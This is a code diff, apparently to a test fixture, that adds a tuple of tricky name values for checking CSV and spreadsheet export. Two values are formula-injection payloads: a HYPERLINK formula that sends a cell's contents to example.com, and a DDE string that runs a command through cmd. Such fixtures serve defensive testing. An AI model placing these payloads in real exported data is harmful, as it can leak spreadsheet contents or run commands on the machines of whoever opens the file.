@@ -100,4 +100,9 @@ LABELS: tuple[tuple[str, str, str | None, float, int], ...] = (
     ("EMEA loaners", "Of a space", None, 0.25, 1),
 )
 
+#: Names which a table program takes for formulas, or a careless reader of CSV for more than one field.
+FORMULA_NAMES = (
+    '=HYPERLINK("http://example.com/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-555-0100", "\t=1+1", 'said "a,b";c',
+)
+
 OPERATORS = ("Verizon", "AT&T", "T-Mobile", "Vodafone.de", "ドコモ")
